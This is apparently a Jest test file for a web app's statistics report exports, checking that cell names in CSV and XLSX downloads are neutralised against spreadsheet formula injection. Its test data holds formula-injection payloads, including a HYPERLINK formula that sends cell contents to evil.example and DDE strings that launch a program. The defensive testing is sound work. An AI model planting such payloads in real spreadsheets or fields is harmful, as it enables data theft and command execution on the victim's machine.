import ExcelJS from 'exceljs';
import { startTestServer, ok, type TestServer } from './support/server';
import { isMysql } from './support/database';
import { buildCell, buildOrganization, buildUser, gid, reloadOrganization } from './factories';
import { Role } from '../src/domain/enums';
import { Organization } from '../src/modules/organization/organization.entity';
import { csvCell, csvRecord, xlsxValue } from '../src/common/spreadsheet';
import type { User } from '../src/modules/user/user.entity';

/**
 * Spreadsheet formula injection (OWASP "CSV Injection") in the statistics exports: a commune
 * committee renames one of its cells so that its name starts with a formula trigger, and the city
 * committee downloads the commune's report and the cell's. Every text cell must reach it as text with a leading `'` (CSV: also quoted per RFC
 * 4180; XLSX: a string cell, never a formula), while the figures stay numbers.
 */
const TRIGGERS: [string, string][] = [
  ['=', '=HYPERLINK("https://evil.example/?d="&A1,"Xem chi tiết")'],
  ['+', "+cmd|' /C calc'!A0"],
  ['-', "-2+3+cmd|' /C calc'!A0"],
  ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['tab (0x09)', '\t=1+2'],
  ['carriage return (0x0D)', '\r=3+4'],
];
const PLAIN = 'Đảng ủy xã Bình Thường, "kiểu mẫu"';

/** A whole CSV text as records (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): { fields: string[]; quoted: boolean[] }[] {
  const records: { fields: string[]; quoted: boolean[] }[] = [];
  let fields: string[] = [];
  let quotedFlags: boolean[] = [];
  let field = '';
  let quoted = false;
  let inQuotes = false;
  const endField = () => {
    fields.push(field);
    quotedFlags.push(quoted);
    field = '';
    quoted = false;
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') inQuotes = false;
      else field += ch;
    } else if (ch === '"') {
      if (field !== '') throw new Error(`A quote inside an unquoted field at ${i}: ${JSON.stringify(text.slice(i - 20, i + 20))}`);
      inQuotes = true;
      quoted = true;
    } else if (ch === ',') endField();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endField();
      records.push({ fields, quoted: quotedFlags });
      fields = [];
      quotedFlags = [];
      i++;
    } else field += ch;
  }
  if (inQuotes) throw new Error('An unterminated quoted field');
  if (field !== '' || fields.length) throw new Error('The CSV does not end with CRLF');
  return records;
}

describe(`export injection: user text in CSV and XLSX exports stays text (${isMysql() ? 'MySQL' : 'SQLite'})`, () => {
  let server: TestServer;
  let committee: User;
  let commune: Organization;
  const cells = new Map<string, Organization>();

  beforeAll(async () => {
    server = await startTestServer();
    const ds = server.dataSource;
    const city = await buildOrganization(ds, null, { name: 'Thành ủy Chống Công Thức' });
    committee = await buildUser(ds, Role.COMMITTEE, city);
    commune = await buildOrganization(ds, city, { name: 'Đảng ủy xã Thử Nghiệm' });
    for (const [trigger] of TRIGGERS) cells.set(trigger, (await buildCell(ds, commune)).cell);
    await buildCell(ds, commune, { name: PLAIN });

    // The commune's committee renames one of its cells through the API, as in the issue.
    const plus = cells.get('+')!;
    const communeCommittee = await buildUser(ds, Role.COMMITTEE, commune);
    const renamed = ok(
      await server.gql<{ updateOrganization: { name: string } }>(
        `mutation ($id: ID!, $input: UpdateOrganizationInput!) { updateOrganization(id: $id, input: $input) { name } }`,
        { id: gid.org(plus), input: { name: "+cmd|' /C calc'!A0", version: (await reloadOrganization(ds, plus.id)).version } },
        server.tokenFor(communeCommittee),
      ),
    );
    expect(renamed.updateOrganization.name).toBe("+cmd|' /C calc'!A0");
    // The others are written to the row directly: the API trims names, but rows imported or
    // written before that rule (or by another tool) can still start with a tab or a CR.
    for (const [trigger, name] of TRIGGERS) {
      if (trigger !== '+') await ds.getRepository(Organization).update({ id: cells.get(trigger)!.id }, { name });
    }
  });
  afterAll(() => server.close());

  async function download(format: 'csv' | 'xlsx', organization: Organization): Promise<Buffer> {
    const url = new URL(`/reports/statistics.${format}`, server.app.url);
    url.searchParams.set('organizationId', gid.org(organization));
    url.searchParams.set('year', '2025');
    const response = await fetch(url, { headers: { authorization: `Bearer ${server.tokenFor(committee)}` } });
    const buffer = Buffer.from(await response.arrayBuffer());
    expect({ status: response.status, body: response.status === 200 ? '' : buffer.toString('utf8') }).toEqual({ status: 200, body: '' });
    return buffer;
  }

  async function csvRecords(organization: Organization) {
    const text = (await download('csv', organization)).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    return parseCsv(text.slice(1));
  }

  async function workbook(organization: Organization): Promise<ExcelJS.Workbook> {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await download('xlsx', organization)) as unknown as ExcelJS.Buffer);
    return book;
  }

  /** No cell of the workbook is a formula, and every text cell that starts with a trigger starts with ' first. */
  function expectNoFormula(book: ExcelJS.Workbook): void {
    for (const sheet of book.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect({ sheet: sheet.name, cell: cell.address, type: cell.type }).not.toEqual({ sheet: sheet.name, cell: cell.address, type: ExcelJS.ValueType.Formula });
          expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null]).toContain(cell.type);
          if (cell.type === ExcelJS.ValueType.String) expect({ cell: cell.address, value: cell.value }).not.toEqual({ cell: cell.address, value: expect.stringMatching(/^[=+\-@\t\r\n]/) });
        }),
      );
    }
  }

  describe.each(TRIGGERS)('a name starting with %s', (trigger, name) => {
    it('CSV: the child row carries the name quoted, with a leading single quote; its figures stay unquoted numbers', async () => {
      const records = await csvRecords(commune);
      const row = records.find((r) => r.fields[0] === name || r.fields[0] === `'${name}`);
      expect(row).toBeDefined();
      expect(row!.fields[0]).toBe(`'${name}`);
      expect(row!.quoted[0]).toBe(true);
      // The figures: numbers written as numbers, unquoted.
      expect(row!.fields).toHaveLength(12);
      row!.fields.slice(1).forEach((field, i) => {
        expect({ column: i + 1, field, quoted: row!.quoted[i + 1] }).toEqual({ column: i + 1, field: expect.stringMatching(/^(-?\d+(\.\d+)?%?)?$/), quoted: false });
      });
      expect(row!.fields[1]).toBe('1');
      // No record anywhere starts a cell with a trigger.
      for (const record of records) for (const field of record.fields) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('CSV of the cell itself: the first data row is the neutralized name', async () => {
      const records = await csvRecords(cells.get(trigger)!);
      expect(records[1].fields[0]).toBe(`'${name}`);
      expect(records[1].quoted[0]).toBe(true);
    });

    it('XLSX: the name is a string cell with a leading single quote, in both sheets; no cell is a formula', async () => {
      // XML parsing reads a raw CR in a string as LF; the cell stays text either way.
      const expected = `'${name}`.replace(/\r/g, '\n');
      const ofCommune = await workbook(commune);
      expectNoFormula(ofCommune);
      const children = ofCommune.getWorksheet('Đơn vị trực thuộc')!;
      const found: ExcelJS.Cell[] = [];
      children.eachRow((row, n) => {
        if (n > 1 && [expected, expected.slice(1)].includes(String(row.getCell(1).value))) found.push(row.getCell(1));
      });
      expect(found).toHaveLength(1);
      expect({ value: found[0].value, type: found[0].type }).toEqual({ value: expected, type: ExcelJS.ValueType.String });
      expect(found[0].formula).toBeUndefined();
      const schools = found[0].worksheet.getRow(Number(found[0].row)).getCell(2);
      expect({ value: schools.value, type: schools.type }).toEqual({ value: 1, type: ExcelJS.ValueType.Number });

      const ofCell = await workbook(cells.get(trigger)!);
      expectNoFormula(ofCell);
      const totals = ofCell.getWorksheet('Tổng hợp')!;
      const unit = totals.getRow(2);
      expect(unit.getCell(1).value).toBe('Đơn vị');
      expect({ value: unit.getCell(2).value, type: unit.getCell(2).type }).toEqual({ value: expected, type: ExcelJS.ValueType.String });
    });
  });

  it('a name without a trigger is left as it is; every text cell of the CSV is quoted (OWASP), every figure is not', async () => {
    const records = await csvRecords(commune);
    const row = records.find((r) => r.fields[0] === PLAIN);
    expect(row?.quoted[0]).toBe(true);
    const raw = (await download('csv', commune)).toString('utf8');
    expect(raw).toContain('"Đảng ủy xã Bình Thường, ""kiểu mẫu"""');
    // The header row is text throughout; in the data rows the first cell is text, the rest figures.
    expect(records[0].quoted).toEqual(records[0].fields.map(() => true));
    for (const record of records.slice(1)) expect(record.quoted).toEqual(record.fields.map((_f, i) => i === 0));
    const book = await workbook(commune);
    const names: unknown[] = [];
    book.getWorksheet('Đơn vị trực thuộc')!.eachRow((r, n) => {
      if (n > 1) names.push(r.getCell(1).value);
    });
    expect(names).toContain(PLAIN);
  });

  it('the cell writers neutralize text only: a negative figure stays a number, unquoted and unprefixed', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(xlsxValue(-3)).toBe(-3);
    expect(xlsxValue(null)).toBeNull();
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(xlsxValue('-3')).toBe("'-3");
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('  =1+1')).toBe(`"'  =1+1"`);
    expect(csvCell('＝1+1')).toBe(`"'＝1+1"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvRecord(['=A1', 2, null, 'Chi bộ "A"'])).toBe(`"'=A1",2,,"Chi bộ ""A"""`);
  });
});
